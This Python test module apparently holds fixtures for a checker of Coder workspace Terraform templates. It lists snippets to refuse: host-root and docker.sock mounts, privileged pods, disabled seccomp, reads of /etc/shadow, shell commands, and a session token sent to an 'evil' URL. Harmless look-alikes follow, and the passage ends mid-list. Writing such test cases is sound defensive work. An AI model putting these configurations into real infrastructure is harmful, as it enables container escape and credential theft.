# ruff: noqa: E501  (Terraform code, a way a line)
"""Ways to reach the host or another user's data, in Terraform's own code, and harmless things that look like them.

Each is a file that stands beside a harmless template, or the body of one container or pod.
"""

from __future__ import annotations


def container(body: str) -> str:
    return f'resource "docker_container" "c" {{\n  name  = "c"\n  image = "i"\n  {body}\n}}\n'


def service(body: str) -> str:
    return (
        'resource "docker_service" "s" {\n  name = "s"\n  task_spec {\n    container_spec {\n      image = "i"\n'
        f"      {body}\n    }}\n  }}\n}}\n"
    )


def pod(spec: str, metadata: str = "", type: str = "kubernetes_pod_v1") -> str:
    inside = f'metadata {{\n      name = "p"\n      {metadata}\n    }}\n    spec {{\n      {spec}\n    }}'
    template = {
        "kubernetes_pod_v1": "{}",
        "kubernetes_pod": "{}",
        "kubernetes_cron_job_v1": 'metadata {{\n name = "w"\n }}\n spec {{\n schedule = "* * * * *"\n job_template {{\n metadata {{}}\n'
        " spec {{\n template {{\n {} \n }}\n }}\n }}\n }}\n",
    }
    template["kubernetes_cron_job"] = template["kubernetes_cron_job_v1"]
    shape = template.get(type, 'metadata {{\n name = "w"\n }}\n spec {{\n template {{\n {} \n }}\n }}\n')
    return f'resource "{type}" "p" {{\n{shape.format(inside)}\n}}\n'


def main(body: str = "") -> str:
    return f'container {{\n name = "main"\n image = "i"\n {body}\n }}'


WORKLOADS = (
    "kubernetes_pod", "kubernetes_pod_v1", "kubernetes_deployment", "kubernetes_deployment_v1", "kubernetes_stateful_set",
    "kubernetes_stateful_set_v1", "kubernetes_daemonset", "kubernetes_daemon_set_v1", "kubernetes_job", "kubernetes_job_v1",
    "kubernetes_cron_job", "kubernetes_cron_job_v1", "kubernetes_replication_controller",
    "kubernetes_replication_controller_v1",
)  # fmt: skip

HOST_PATHS = (
    "/", "//", "/.", "/./", "/var/run/docker.sock", "//var/run/docker.sock", "/var/run", "/run", "/etc", "/etc/shadow", "/proc",
    "/dev", "/sys", "/root", "/home", "/boot", "/var/lib/docker", "/var/lib/kubelet", "/var/lib/containerd", "/var/log",
    "/run/containerd/containerd.sock", "/var/run/crio/crio.sock", "/run/podman/podman.sock", "/run/user/1000/docker.sock",
    "/lib/modules/../..", "/etc/kubernetes", "/usr/local/bin", "/opt", "/srv",
)  # fmt: skip

DOCKER = {
    **{f"the host's {path}": container(f'volumes {{\n host_path = "{path}"\n container_path = "/h"\n }}') for path in HOST_PATHS},
    "the host's path, read-only": container('volumes {\n host_path = "/etc"\n container_path = "/h"\n read_only = true\n }'),
    "a harmless path to be written to": container('volumes {\n host_path = "/lib/modules"\n container_path = "/h"\n }'),
    "a path by a parameter": container(
        'volumes {\n host_path = data.coder_parameter.x.value\n container_path = "/h"\n }'
    ),
    "a path by a local": 'locals {\n p = "/"\n }\n'
    + container('volumes {\n host_path = local.p\n container_path = "/h"\n }'),
    "a path by a function": container(
        'volumes {\n host_path = join("/", ["", "etc"])\n container_path = "/h"\n }'
    ),
    "a path by a condition": container(
        'volumes {\n host_path = data.coder_workspace.me.start_count > 0 ? "/" : "/usr/src"\n container_path = "/h"\n }'
    ),
    "a path by dynamic blocks": container(
        'dynamic "volumes" {\n for_each = ["/"]\n content {\n host_path = volumes.value\n container_path = "/h"\n }\n }'
    ),
    "a path by dynamic blocks of a data source": container(
        'dynamic "volumes" {\n for_each = data.coder_parameter.x.value\n content {\n host_path = volumes.value\n'
        ' container_path = "/h"\n }\n }'
    ),
    "a path for each": container(
        'for_each = { a = "/" }\n volumes {\n host_path = each.value\n container_path = "/h"\n }'
    ),
    "a volume named by a path": container('volumes {\n volume_name = "/"\n container_path = "/h"\n }'),
    "a volume named by a parameter": container(
        'volumes {\n volume_name = data.coder_parameter.x.value\n container_path = "/h"\n }'
    ),
    "a volume of a name that a parameter ends": container(
        'volumes {\n volume_name = "coder-${data.coder_parameter.x.value}-home"\n container_path = "/h"\n }'
    ),
    "another workspace's volume": container(
        'volumes {\n volume_name = "coder-0f3a8a4e-7b70-4a3f-9d6c-1a2b3c4d5e6f-home"\n container_path = "/h"\n }'
    ),
    "another container's volumes": container('volumes {\n from_container = "other"\n }'),
    "a mount by the path inside": container('volumes {\n volume_name = "v"\n container_path = "/x:/etc"\n }'),
    "a bind mount": container('mounts {\n type = "bind"\n source = "/"\n target = "/h"\n }'),
    "a bind mount by a local": 'locals {\n t = "bind"\n }\n'
    + container('mounts {\n type = local.t\n source = "/"\n target = "/h"\n }'),
    "a mount whose kind a parameter chooses": container(
        'mounts {\n type = data.coder_parameter.x.value\n source = "/"\n target = "/h"\n }'
    ),
    "a volume mount by options that bind": container(
        'mounts {\n type = "volume"\n target = "/h"\n volume_options {\n driver_options = { type = "none", device = "/", o = "bind" }\n'
        " }\n }"
    ),
    "mounts that spread": container(
        'mounts {\n type = "bind"\n source = "/usr/src"\n target = "/h"\n read_only = true\n bind_options {\n'
        ' propagation = "rshared"\n }\n }'
    ),
    "privileged": container("privileged = true"),
    "privileged as text": container('privileged = "true"'),
    "privileged by a condition": container("privileged = data.coder_workspace.me.start_count == 1"),
    "privileged by a local of a local": "locals {\n a = true\n b = local.a\n }\n" + container("privileged = local.b"),
    "all capabilities": container('capabilities {\n add = ["ALL"]\n }'),
    "CAP_SYS_ADMIN": container('capabilities {\n add = ["CAP_SYS_ADMIN"]\n }'),
    "sys_module in small letters": container('capabilities {\n add = ["sys_module"]\n }'),
    "SYS_PTRACE": container('capabilities {\n add = ["SYS_PTRACE"]\n }'),
    "DAC_READ_SEARCH": container('capabilities {\n add = ["DAC_READ_SEARCH"]\n }'),
    "NET_ADMIN": container('capabilities {\n add = ["NET_ADMIN"]\n }'),
    "BPF": container('capabilities {\n add = ["BPF"]\n }'),
    "a capability by a parameter": container("capabilities {\n add = [data.coder_parameter.x.value]\n }"),
    "a disk": container('devices {\n host_path = "/dev/sda"\n }'),
    "the host's memory": container('devices {\n host_path = "/dev/mem"\n }'),
    "a device by CDI": container('devices {\n host_path = "vendor.com/device=all"\n }'),
    "a device behind a harmless one": container('devices {\n host_path = "/dev/net/tun/../../sda"\n }'),
    "a block device's limits": container('device_read_bps {\n path = "/dev/sda"\n rate = "1mb"\n }'),
    "a device driver of elsewhere": container('device_requests {\n driver = "cdi"\n device_ids = ["x.com/y=z"]\n }'),
    "seccomp off": container('security_opts = ["seccomp=unconfined"]'),
    "seccomp off, in the older spelling": container('security_opts = ["seccomp:unconfined"]'),
    "a seccomp profile of one's own": container('security_opts = ["seccomp={\\"defaultAction\\":\\"SCMP_ACT_ALLOW\\"}"]'),
    "AppArmor off": container('security_opts = ["apparmor=unconfined"]'),
    "SELinux off": container('security_opts = ["label=disable"]'),
    "unmasked system paths": container('security_opts = ["systempaths=unconfined"]'),
    "confinement off for an ordinary user without FUSE": container(
        'user = "coder"\n security_opts = ["seccomp=unconfined", "apparmor=unconfined"]'
    ),
    "confinement off for root with FUSE": container(
        'user = "root"\n security_opts = ["seccomp=unconfined"]\n devices {\n host_path = "/dev/fuse"\n }'
    ),
    "the host's network": container('network_mode = "host"'),
    "another container's network": container('network_mode = "container:other"'),
    "a network by a parameter": container("network_mode = data.coder_parameter.x.value"),
    "the host's network among others": container('networks_advanced {\n name = "host"\n }'),
    "the host's processes": container('pid_mode = "host"'),
    "another container's processes": container('pid_mode = "container:other"'),
    "the host's shared memory": container('ipc_mode = "host"'),
    "another container's shared memory": container('ipc_mode = "container:other"'),
    "the host's users": container('userns_mode = "host"'),
    "the host's control groups": container('cgroupns_mode = "host"'),
    "another control group": container('cgroup_parent = "/"'),
    "the kernel's core pattern": container('sysctls = { "kernel.core_pattern" = "|/x" }'),
    "a sysctl with slashes": container('sysctls = { "kernel/core_pattern" = "|/x" }'),
    "a runtime by its path": container('runtime = "/usr/bin/evil"'),
    "a runtime of no name that is known": container('runtime = "privileged-runc"'),
    "a file of the provisioner's by upload": container('upload {\n file = "/x"\n source = "/etc/shadow"\n }'),
    "logs to a socket of the host": container('log_driver = "syslog"'),
    "a service's bind mount": service('mounts {\n type = "bind"\n source = "/"\n target = "/h"\n }'),
    "a service's capabilities": service('cap_add = ["SYS_ADMIN"]'),
    "a service's SELinux": service("privileges {\n se_linux_context {\n disable = true\n }\n }"),
    "a service's sysctl": service('sysctl = { "kernel.core_pattern" = "x" }'),
    "a volume that binds": 'resource "docker_volume" "v" {\n driver_opts = { type = "none", device = "/", o = "bind" }\n }\n',
    "a volume in memory that binds": 'resource "docker_volume" "v" {\n driver_opts = { type = "tmpfs", device = "/", o = "bind" }\n }\n',
    "a volume on a disk": 'resource "docker_volume" "v" {\n driver_opts = { type = "ext4", device = "/dev/sda1" }\n }\n',
    "a volume by options of elsewhere": 'resource "docker_volume" "v" {\n driver_opts = jsondecode(data.coder_parameter.x.value)\n }\n',
    "a volume of a plugin": 'resource "docker_volume" "v" {\n driver = "vieux/sshfs"\n }\n',
    "a volume of another's name": 'resource "docker_volume" "v" {\n name = "coder-${data.coder_parameter.x.value}-home"\n }\n',
    "a plugin": 'resource "docker_plugin" "p" {\n name = "evil/plugin"\n grant_all_permissions = true\n }\n',
    "a network on the host's interface": 'resource "docker_network" "n" {\n name = "n"\n driver = "macvlan"\n'
    ' options = { parent = "eth0" }\n }\n',
    "a bridge of the host's": 'resource "docker_network" "n" {\n name = "n"\n'
    ' options = { "com.docker.network.bridge.name" = "br0" }\n }\n',
    "an image of the provisioner's files": 'resource "docker_image" "i" {\n name = "i"\n build {\n context = "/"\n }\n }\n',
    "an image of the home's files": 'resource "docker_image" "i" {\n name = "i"\n build {\n context = "~/.ssh"\n }\n }\n',
    "an image of files beside": 'resource "docker_image" "i" {\n name = "i"\n build {\n context = "${path.module}/../.."\n }\n }\n',
    "a secret file for a build": 'resource "docker_image" "i" {\n name = "i"\n build {\n context = "."\n secrets {\n id = "s"\n'
    ' src = "/root/.docker/config.json"\n }\n }\n }\n',
    "a build on the host's network": 'resource "docker_image" "i" {\n name = "i"\n build {\n context = "."\n'
    ' network_mode = "host"\n }\n }\n',
    "a build cache on the provisioner": 'resource "docker_image" "i" {\n name = "i"\n build {\n context = "."\n'
    ' cache_to = ["type=local,dest=/etc/cron.d"]\n }\n }\n',
    "a Compose project": 'resource "docker_compose" "c" {\n project_name = "x"\n config_paths = ["compose.yaml"]\n }\n',
    "a builder": 'resource "docker_buildx_builder" "b" {\n name = "b"\n }\n',
    "an image under a name of others": 'resource "docker_tag" "t" {\n source_image = "evil"\n target_image = "codercom/enterprise-base:ubuntu"\n }\n',
    "other containers' logs": 'data "docker_logs" "l" {\n name = "other"\n }\n',
    "a list of containers": 'data "docker_containers" "l" {}\n',
    "a network that is the host's": 'data "docker_network" "h" {\n name = "host"\n }\n',
    "ssh with a command": 'provider "docker" {\n alias = "x"\n host = "ssh://u@h"\n ssh_opts = ["-o", "ProxyCommand=sh -c id"]\n }\n',
}  # fmt: skip

POD = {
    "the node's files": pod(main() + '\n volume {\n name = "v"\n host_path {\n path = "/"\n }\n }'),
    "the node's socket of containerd": pod(
        main() + '\n volume {\n name = "v"\n host_path {\n path = "/run/containerd/containerd.sock"\n }\n }'
    ),
    "a path by a parameter": pod(main() + '\n volume {\n name = "v"\n host_path {\n path = data.coder_parameter.x.value\n }\n }'),
    "a harmless path to be written to": pod(
        main('volume_mount {\n name = "v"\n mount_path = "/m"\n }')
        + '\n volume {\n name = "v"\n host_path {\n path = "/lib/modules"\n }\n }'
    ),
    "a local volume": pod(main() + '\n volume {\n name = "v"\n local {\n path = "/"\n }\n }'),
    "a volume driver of elsewhere": pod(main() + '\n volume {\n name = "v"\n csi {\n driver = "hostpath.csi.k8s.io"\n }\n }'),
    "a flex volume": pod(main() + '\n volume {\n name = "v"\n flex_volume {\n driver = "x/y"\n }\n }'),
    "a git repository on the node": pod(main() + '\n volume {\n name = "v"\n git_repo {\n repository = "x"\n }\n }'),
    "a cloud disk": pod(main() + '\n volume {\n name = "v"\n aws_elastic_block_store {\n volume_id = "vol-1"\n }\n }'),
    "another workspace's claim": pod(
        main() + '\n volume {\n name = "v"\n persistent_volume_claim {\n'
        ' claim_name = "coder-0f3a8a4e-7b70-4a3f-9d6c-1a2b3c4d5e6f-home"\n }\n }'
    ),
    "a claim by a parameter": pod(
        main() + '\n volume {\n name = "v"\n persistent_volume_claim {\n claim_name = data.coder_parameter.x.value\n }\n }'
    ),
    "a secret by a parameter": pod(
        main('env {\n name = "S"\n value_from {\n secret_key_ref {\n name = data.coder_parameter.x.value\n key = "k"\n }\n }\n }')
    ),
    "the node's network": pod("host_network = true\n" + main()),
    "the node's processes": pod("host_pid = true\n" + main()),
    "the node's shared memory": pod("host_ipc = true\n" + main()),
    "the node's network as text": pod('host_network = "true"\n' + main()),
    "privileged": pod(main("security_context {\n privileged = true\n }")),
    "privileged, first of all": pod('init_container {\n name = "i"\n image = "i"\n security_context {\n privileged = true\n }\n }\n' + main()),
    "a capability": pod(main('security_context {\n capabilities {\n add = ["SYS_ADMIN"]\n }\n }')),
    "seccomp off": pod('security_context {\n seccomp_profile {\n type = "Unconfined"\n }\n }\n' + main()),
    "seccomp off for one": pod(main('security_context {\n seccomp_profile {\n type = "Unconfined"\n }\n }')),
    "SELinux's type of the node": pod(main('security_context {\n se_linux_options {\n type = "spc_t"\n }\n }')),
    "a host process on Windows": pod("security_context {\n windows_options {\n host_process = true\n }\n }\n" + main()),
    "a sysctl": pod('security_context {\n sysctl {\n name = "kernel.core_pattern"\n value = "x"\n }\n }\n' + main()),
    "AppArmor off by an annotation": pod(
        main(), 'annotations = { "container.apparmor.security.beta.kubernetes.io/main" = "unconfined" }'
    ),
    "seccomp off by an annotation": pod(main(), 'annotations = { "seccomp.security.alpha.kubernetes.io/pod" = "unconfined" }'),
    "devices by an annotation": pod(main(), 'annotations = { "io.kubernetes.cri-o.Devices" = "/dev/mem" }'),
    "the host's users by an annotation": pod(main(), 'annotations = { "io.kubernetes.cri-o.userns-mode" = "host" }'),
    "a hypervisor by an annotation": pod(
        main(), 'annotations = { "io.katacontainers.config.hypervisor.path" = "/bin/sh" }'
    ),
    "a host's network by an annotation": pod(main(), 'annotations = { "k8s.v1.cni.cncf.io/networks" = "host-net" }'),
    "volumes by a mesh's annotation": pod(main(), 'annotations = { "sidecar.istio.io/userVolume" = "x" }'),
    "a cloud's rights by an annotation": pod(main(), 'annotations = { "iam.amazonaws.com/role" = "admin" }'),
    "a device plugin": pod(main('resources {\n limits = { "smarter-devices/mem" = "1" }\n }')),
    "a port of the node": pod(main("port {\n container_port = 80\n host_port = 80\n }")),
    "a probe of another host": pod(main('liveness_probe {\n http_get {\n host = "169.254.169.254"\n port = 80\n }\n }')),
    "mounts that spread": pod(main('volume_mount {\n name = "v"\n mount_path = "/m"\n mount_propagation = "Bidirectional"\n }')),
    "a node by its name": pod('node_name = "control-plane"\n' + main()),
    "the control plane's nodes": pod(
        'toleration {\n key = "node-role.kubernetes.io/control-plane"\n operator = "Exists"\n }\n' + main()
    ),
    "every node": pod('toleration {\n operator = "Exists"\n }\n' + main()),
    "a service account": pod('service_account_name = "cluster-admin"\n' + main()),
    "a runtime that is not known": pod('runtime_class_name = "privileged"\n' + main()),
    "a scheduler of one's own": pod('scheduler_name = "mine"\n' + main()),
    "the cluster's own namespace": pod(main(), 'namespace = "kube-system"'),
    "a namespace by a parameter": pod(main(), "namespace = data.coder_parameter.x.value"),
    "containers by dynamic blocks": pod(
        'dynamic "container" {\n for_each = [true]\n content {\n name = "x"\n image = "i"\n security_context {\n'
        " privileged = container.value\n }\n }\n }"
    ),
}  # fmt: skip

WORKLOAD = {
    f"{type} that is privileged": pod(main("security_context {\n privileged = true\n }"), type=type)
    for type in WORKLOADS
}

MINGFANG = {
    "mingfang: privileged": 'resource "k8s_core_v1_pod" "p" {\n metadata {\n name = "p"\n }\n spec {\n containers {\n name = "c"\n image = "i"\n'
    ' security_context {\n privileged = "true"\n }\n }\n }\n }\n',
    "mingfang: the node's files": 'resource "k8s_core_v1_pod" "p" {\n metadata {\n name = "p"\n }\n spec {\n containers {\n name = "c"\n }\n'
    ' volumes {\n name = "v"\n host_path {\n path = "/"\n }\n }\n }\n }\n',
    "mingfang: the node's processes": 'resource "k8s_apps_v1_deployment" "p" {\n metadata {\n name = "p"\n }\n spec {\n template {\n spec {\n'
    ' host_pid = "true"\n containers {\n name = "c"\n }\n }\n }\n }\n }\n',
    "mingfang: an unmasked /proc": 'resource "k8s_apps_v1_stateful_set" "p" {\n metadata {\n name = "p"\n }\n spec {\n template {\n spec {\n'
    ' containers {\n name = "c"\n security_context {\n proc_mount = "Unmasked"\n }\n }\n }\n }\n }\n }\n',
    "mingfang: AppArmor off": 'resource "k8s_core_v1_pod" "p" {\n metadata {\n name = "p"\n }\n spec {\n security_context {\n'
    ' app_armor_profile {\n type = "Unconfined"\n }\n }\n containers {\n name = "c"\n }\n }\n }\n',
    "mingfang: a daemon set": 'resource "k8s_apps_v1_daemon_set" "p" {\n metadata {\n name = "p"\n }\n spec {\n template {\n spec {\n'
    ' host_network = "true"\n containers {\n name = "c"\n }\n }\n }\n }\n }\n',
    "mingfang: a binding": 'resource "k8s_rbac_authorization_k8s_io_v1_cluster_role_binding" "b" {\n metadata {\n name = "b"\n }\n }\n',
}  # fmt: skip

OBJECTS = {
    "a volume of the node": 'resource "kubernetes_persistent_volume_v1" "v" {\n metadata {\n name = "v"\n }\n spec {\n capacity = { storage = "1Gi" }\n'
    ' access_modes = ["ReadWriteOnce"]\n persistent_volume_source {\n host_path {\n path = "/"\n }\n }\n }\n }\n',
    "a local volume of the node": 'resource "kubernetes_persistent_volume" "v" {\n metadata {\n name = "v"\n }\n spec {\n'
    ' capacity = { storage = "1Gi" }\n access_modes = ["ReadWriteOnce"]\n persistent_volume_source {\n local {\n path = "/"\n }\n }\n }\n }\n',
    "a volume of a driver": 'resource "kubernetes_persistent_volume_v1" "v" {\n metadata {\n name = "v"\n }\n spec {\n'
    ' capacity = { storage = "1Gi" }\n access_modes = ["ReadWriteOnce"]\n persistent_volume_source {\n csi {\n driver = "x"\n'
    ' volume_handle = "other"\n }\n }\n }\n }\n',
    "a claim of a volume by its name": 'resource "kubernetes_persistent_volume_claim_v1" "c" {\n metadata {\n name = "c"\n }\n spec {\n'
    ' access_modes = ["ReadWriteOnce"]\n volume_name = "pvc-of-somebody"\n resources {\n requests = { storage = "1Gi" }\n }\n }\n }\n',
    "a binding": 'resource "kubernetes_cluster_role_binding_v1" "b" {\n metadata {\n name = "b"\n }\n role_ref {\n'
    ' api_group = "rbac.authorization.k8s.io"\n kind = "ClusterRole"\n name = "cluster-admin"\n }\n subject {\n kind = "ServiceAccount"\n'
    ' name = "default"\n }\n }\n',
    "a role": 'resource "kubernetes_role_v1" "r" {\n metadata {\n name = "r"\n }\n rule {\n api_groups = [""]\n resources = ["secrets"]\n'
    ' verbs = ["get"]\n }\n }\n',
    "a token of a service account": 'resource "kubernetes_secret_v1" "s" {\n metadata {\n name = "s"\n'
    ' annotations = { "kubernetes.io/service-account.name" = "admin" }\n }\n type = "kubernetes.io/service-account-token"\n }\n',
    "a token request": 'resource "kubernetes_token_request_v1" "t" {\n metadata {\n name = "admin"\n }\n spec {}\n }\n',
    "an identity of the cloud": 'resource "kubernetes_service_account_v1" "a" {\n metadata {\n name = "a"\n'
    ' annotations = { "eks.amazonaws.com/role-arn" = "arn:aws:iam::1:role/admin" }\n }\n }\n',
    "a webhook": 'resource "kubernetes_mutating_webhook_configuration_v1" "w" {\n metadata {\n name = "w"\n }\n }\n',
    "addresses of others": 'resource "kubernetes_service_v1" "s" {\n metadata {\n name = "s"\n }\n spec {\n external_ips = ["1.2.3.4"]\n'
    " port {\n port = 443\n }\n }\n }\n",
    "a namespace for privileged pods": 'resource "kubernetes_namespace_v1" "n" {\n metadata {\n name = "n"\n'
    ' labels = { "pod-security.kubernetes.io/enforce" = "privileged" }\n }\n }\n',
    "a proxy's code": 'resource "kubernetes_ingress_v1" "i" {\n metadata {\n name = "i"\n'
    ' annotations = { "nginx.ingress.kubernetes.io/configuration-snippet" = "x" }\n }\n spec {}\n }\n',
    "labels of others' objects": 'resource "kubernetes_labels" "l" {\n api_version = "v1"\n kind = "Namespace"\n metadata {\n name = "x"\n }\n'
    ' labels = { "pod-security.kubernetes.io/enforce" = "privileged" }\n }\n',
    "a manifest of a pod": 'resource "kubernetes_manifest" "m" {\n manifest = { apiVersion = "v1", kind = "Pod", metadata = { name = "p" }, spec = {\n'
    ' hostPID = true, containers = [{ name = "c", image = "i" }] } }\n }\n',
    "a manifest of a privileged deployment": 'resource "kubernetes_manifest" "m" {\n manifest = { apiVersion = "apps/v1", kind = "Deployment",\n'
    ' metadata = { name = "p" }, spec = { template = { spec = { containers = [{ name = "c", securityContext = { privileged = true } }] } } } }\n }\n',
    "a manifest by yamldecode": 'resource "kubernetes_manifest" "m" {\n manifest = yamldecode("kind: Pod")\n }\n',
    "a manifest of a binding": 'resource "kubernetes_manifest" "m" {\n manifest = { apiVersion = "rbac.authorization.k8s.io/v1",\n'
    ' kind = "RoleBinding", metadata = { name = "b" } }\n }\n',
    "a secret of the cluster's": 'data "kubernetes_secret_v1" "s" {\n metadata {\n name = "x"\n }\n }\n',
    "any object of the cluster's": 'data "kubernetes_resource" "s" {\n api_version = "v1"\n kind = "Secret"\n metadata {\n name = "x"\n }\n }\n',
    "a login by a command": 'provider "kubernetes" {\n alias = "x"\n exec {\n api_version = "client.authentication.k8s.io/v1"\n command = "sh"\n'
    ' args = ["-c", "id"]\n }\n }\n',
}  # fmt: skip

TERRAFORM = {
    "a local command": 'resource "null_resource" "n" {\n provisioner "local-exec" {\n command = "id"\n }\n }\n',
    "a local command of a workspace's": container('provisioner "local-exec" {\n command = "id"\n }'),
    "a command when it is destroyed": 'resource "terraform_data" "n" {\n provisioner "local-exec" {\n when = destroy\n command = "id"\n }\n }\n',
    "a command on another machine": 'resource "null_resource" "n" {\n connection {\n host = "h"\n }\n provisioner "remote-exec" {\n inline = ["id"]\n }\n }\n',
    "a file to another machine": 'resource "null_resource" "n" {\n provisioner "file" {\n source = "/etc/shadow"\n destination = "/x"\n }\n }\n',
    "a command of what is removed": 'removed {\n from = null_resource.gone\n lifecycle {\n destroy = true\n }\n'
    ' provisioner "local-exec" {\n when = destroy\n command = "id"\n }\n }\n',
    "a program for data": 'data "external" "e" {\n program = ["id"]\n }\n',
    "a request": 'data "http" "h" {\n url = "http://169.254.169.254/latest/meta-data/"\n }\n',
    "another's state": 'data "terraform_remote_state" "s" {\n backend = "local"\n config = { path = "/x" }\n }\n',
    "a file to write": 'resource "local_file" "f" {\n filename = "/etc/cron.d/x"\n content = "x"\n }\n',
    "a file to read": 'data "local_file" "f" {\n filename = "/etc/shadow"\n }\n',
    "file()": 'locals {\n s = file("/etc/shadow")\n }\n',
    "file() above the directory": 'locals {\n s = file("${path.module}/../../secret")\n }\n',
    "file() of the home": 'locals {\n s = file(pathexpand("~/.kube/config"))\n }\n',
    "filebase64() in a container": container('env = ["X=${filebase64("/etc/shadow")}"]'),
    "file() by a parameter": container('env = ["X=${file("${path.module}/${data.coder_parameter.x.value}")}"]'),
    "a template that reads a file": 'locals {\n s = templatefile("${path.module}/x.tftpl", {})\n }\n',
    "an import": 'import {\n to = docker_volume.v\n id = "coder-other-home"\n }\nresource "docker_volume" "v" {\n name = "v"\n }\n',
    "the owner's session in labels": container("labels {\n label = \"x\"\n value = data.coder_workspace_owner.me.session_token\n }"),
    "the owner's session in the environment": container('env = ["T=${data.coder_workspace_owner.me.session_token}"]'),
    "the owner's session by a local": "locals {\n t = data.coder_workspace_owner.me.session_token\n }\n" + container('env = ["T=${local.t}"]'),
    "everything of the owner's": container('env = ["T=${jsonencode(data.coder_workspace_owner.me)}"]'),
    "the owner's session by a carrier": 'resource "terraform_data" "t" {\n input = data.coder_workspace_owner.me.session_token\n }\n'
    + container('env = ["T=${terraform_data.t.output}"]'),
    "the owner's key": container('upload {\n file = "/k"\n content = data.coder_workspace_owner.me.ssh_private_key\n }'),
    "the owner's token of the identity provider": 'resource "kubernetes_config_map_v1" "c" {\n metadata {\n name = "c"\n }\n'
    " data = { t = data.coder_workspace_owner.me.oidc_access_token }\n }\n",
    "the owner's session in an app's address": 'resource "coder_app" "a" {\n agent_id = coder_agent.main.id\n slug = "a"\n'
    ' url = "https://evil/?t=${data.coder_workspace_owner.me.session_token}"\n external = true\n }\n',
    "the agent's token in a label": container('labels {\n label = "x"\n value = coder_agent.main.token\n }'),
    "an override": "",
}  # fmt: skip
del TERRAFORM["an override"]

UNKNOWN = {
    "a machine of a cloud": 'resource "aws_instance" "i" {\n ami = "x"\n }\n',
    "a chart": 'resource "helm_release" "h" {\n name = "h"\n chart = "x"\n }\n',
    "an object of a kind that is not known": 'resource "kubernetes_thing_v1" "t" {\n metadata {\n name = "t"\n }\n }\n',
    "kubectl": 'resource "kubectl_manifest" "m" {\n yaml_body = "x"\n }\n',
    "a provider of elsewhere": 'terraform {\n required_providers {\n evil = {\n source = "evil/evil"\n }\n }\n }\n',
}
"""Not visible, and refused where nothing privileged is allowed."""

VARIABLE = {
    "privileged by a variable": 'variable "p" {\n default = false\n }\n' + container("privileged = var.p"),
    "a path by a variable": 'variable "p" {\n default = "/usr/src"\n }\n'
    + container('volumes {\n host_path = var.p\n container_path = "/h"\n }'),
    "a volume's name by a variable": 'variable "p" {\n default = "v"\n }\n'
    + container('volumes {\n volume_name = var.p\n container_path = "/h"\n }'),
    "a pod's network by a variable": 'variable "p" {\n default = false\n }\n' + pod("host_network = var.p\n" + main()),
}
"""Not visible, as whoever pushes the template decides, and refused as the worst that it can be."""

REMOTE = {
    "a module of a registry": 'module "m" {\n source = "evil/module/aws"\n version = "1.0.0"\n }\n',
    "a module by git": 'module "m" {\n source = "git::https://example.com/m.git"\n }\n',
    "a module by its address": 'module "m" {\n source = "https://example.com/m.zip"\n }\n',
}
"""Not visible, and said so; `refuse_not_visible` refuses it."""

REFUSED = {
    **{f"docker: {name}": text for name, text in DOCKER.items()},
    **{f"kubernetes: {name}": text for name, text in POD.items()},
    **WORKLOAD,
    **MINGFANG,
    **{f"kubernetes: {name}": text for name, text in OBJECTS.items()},
    **{f"terraform: {name}": text for name, text in TERRAFORM.items()},
}

_ID = "${data.coder_workspace.me.id}"
HARMLESS = {
    "a container with an environment": container('env = ["A=${data.coder_parameter.x.value}"]\n user = "coder"'),
    "the time of the host": container('volumes {\n host_path = "/etc/localtime"\n container_path = "/etc/localtime"\n read_only = true\n }'),
    "the certificates of the host": container('mounts {\n type = "bind"\n source = "/etc/ssl/certs"\n target = "/c"\n read_only = true\n }'),
    "a volume of the workspace's": f'resource "docker_volume" "v" {{\n name = "coder-{_ID}-v"\n }}\n'
    + container('volumes {\n volume_name = docker_volume.v.name\n container_path = "/v"\n }'),
    "a volume of the owner's": container('volumes {\n volume_name = "cache-${data.coder_workspace_owner.me.name}"\n container_path = "/v"\n }'),
    "a volume that all share": container('volumes {\n volume_name = "shared-cache"\n container_path = "/v"\n }'),
    "a volume by a parameter, of the workspace's own": container(
        'volumes {\n volume_name = "coder-${data.coder_workspace.me.id}-${data.coder_parameter.x.value}"\n container_path = "/v"\n }'
    ),
    "a volume of a variable prefix, behind text": 'variable "p" {\n default = "x"\n }\n'
    + container('volumes {\n volume_name = "vol-${var.p}-${data.coder_workspace.me.id}"\n container_path = "/v"\n }'),
    "memory": container('mounts {\n type = "tmpfs"\n target = "/t"\n }\n tmpfs = { "/s" = "size=64m" }'),
    "NFS": 'resource "docker_volume" "v" {\n driver_opts = { type = "nfs", o = "addr=10.0.0.1,rw", device = ":/export" }\n }\n',
    "a volume in memory": 'resource "docker_volume" "v" {\n driver_opts = { type = "tmpfs", device = "tmpfs", o = "size=64m" }\n }\n',
    "no privileges, said so": container("privileged = false"),
    "fewer capabilities": container('capabilities {\n drop = ["ALL"]\n add = ["CHOWN"]\n }'),
    "no new privileges": container('security_opts = ["no-new-privileges:true"]'),
    "Sysbox": container('runtime = "sysbox-runc"'),
    "Kata Containers": container('runtime = "kata"'),
    "a GPU": container('gpus = "all"'),
    "FUSE and a TUN device": container('devices {\n host_path = "/dev/fuse"\n }\n devices {\n host_path = "/dev/net/tun"\n }'),
    "rootless Podman": container(
        'user = "podman"\n security_opts = ["seccomp=unconfined", "apparmor=unconfined"]\n devices {\n host_path = "/dev/fuse"\n }'
    ),
    "a network of the template's": f'resource "docker_network" "n" {{\n name = "coder-{_ID}"\n internal = true\n }}\n'
    + container("networks_advanced {\n name = docker_network.n.name\n }"),
    "a network that exists": container('networks_advanced {\n name = "coder"\n }'),
    "a network that is looked up": 'data "docker_network" "n" {\n name = "coder"\n }\n'
    + container("networks_advanced {\n name = data.docker_network.n.name\n }"),
    "sysctls of the container's own": container('sysctls = { "net.ipv4.ip_unprivileged_port_start" = "0" }'),
    "published ports": container("ports {\n internal = 80\n external = 8080\n }"),
    "an image that is built": 'resource "docker_image" "i" {\n name = "i"\n build {\n context = "${path.module}/build"\n }\n }\n'
    + container("must_run = true"),
    "file() of the template's": 'locals {\n s = file("${path.module}/hello.txt")\n }\n',
    "files of the template's": 'locals {\n s = [for f in fileset(path.module, "build/**") : filesha1("${path.module}/${f}")]\n }\n',
    "a template of the template's": 'locals {\n s = templatefile("${path.module}/harmless.tftpl", { x = 1 })\n }\n',
    "chance and time": 'resource "random_id" "r" {\n byte_length = 4\n }\nresource "time_static" "t" {}\n',
    "a null resource": 'resource "null_resource" "n" {\n triggers = { a = "b" }\n }\n',
    "the owner's session for the agent": 'resource "coder_env" "e" {\n agent_id = coder_agent.main.id\n name = "T"\n'
    " value = data.coder_workspace_owner.me.session_token\n }\n",
    "the owner's names": container('labels {\n label = "coder.owner"\n value = data.coder_workspace_owner.me.name\n }'),
